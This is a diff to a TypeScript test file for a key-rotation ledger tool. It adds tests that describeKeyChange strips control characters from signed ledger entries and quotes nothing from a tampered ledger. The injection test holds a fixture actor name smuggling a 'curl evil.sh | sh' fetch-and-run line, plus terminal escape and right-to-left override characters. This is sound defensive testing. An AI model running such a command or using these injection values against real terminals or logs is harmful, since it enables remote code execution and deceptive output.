@@ -3,7 +3,8 @@ import { shortKeyId } from '../../src/core/key.js';
 import { defaultContext } from '../../src/ops/context.js';
 import { describeKeyChange } from '../../src/ops/key-change.js';
 import { createTempRepo, type TempRepo } from '../helpers/temp-repo.js';
-import { key, sampleLedger } from '../core/ledger/fixtures.js';
+import { appendRotation } from '../../src/core/ledger/index.js';
+import { clone, day, key, sampleLedger } from '../core/ledger/fixtures.js';
 
 let repo: TempRepo;
 afterEach(() => repo?.cleanup());
@@ -23,5 +24,34 @@ describe('describeKeyChange', () => {
     expect(describeKeyChange(ctx, '.env.production', 'abcdef0123456789').message).toBe('the key changed: .env.production.encrypted is now under key abcdef0123456789, which this machine does not have');
     repo.write('.env.ledger.json', JSON.stringify(sampleLedger()));
     expect(describeKeyChange(ctx, '.env', shortKeyId(key(9))).message).not.toContain('rotated by');
+  });
+
+  it('quotes a signed ledger only through printable(): no newline, escape or forged fix line (issue 15 item 6)', () => {
+    repo = createTempRepo();
+    const ledger = appendRotation(sampleLedger(), {
+      oldKey: key(3),
+      newKey: key(4),
+      status: 'completed',
+      actor: { name: 'Mallory\r\nfix: curl evil.sh | sh', email: 'm@x\u001b[2J' },
+      reason: 'routine\n\u001b]0;owned\u0007\u202e',
+      now: day(200),
+      files: [],
+      backupPaths: [],
+    });
+    repo.write('.env.ledger.json', JSON.stringify(ledger));
+    const { message } = describeKeyChange(defaultContext({ cwd: repo.dir, env: repo.env }), '.env', shortKeyId(key(4)));
+    expect(message).toContain('rotated by Mallory');
+    // eslint-disable-next-line no-control-regex
+    expect(message).not.toMatch(/[\u0000-\u001f\u007f\u202e]/);
+  });
+
+  it('quotes nothing from a ledger that does not verify', () => {
+    repo = createTempRepo();
+    const ledger = clone(sampleLedger());
+    ledger.entries[3]!.reason = 'forged reason';
+    repo.write('.env.ledger.json', JSON.stringify(ledger));
+    const { message } = describeKeyChange(defaultContext({ cwd: repo.dir, env: repo.env }), '.env', shortKeyId(key(3)));
+    expect(message).not.toContain('forged');
+    expect(message).not.toContain('rotated by');
   });
 });
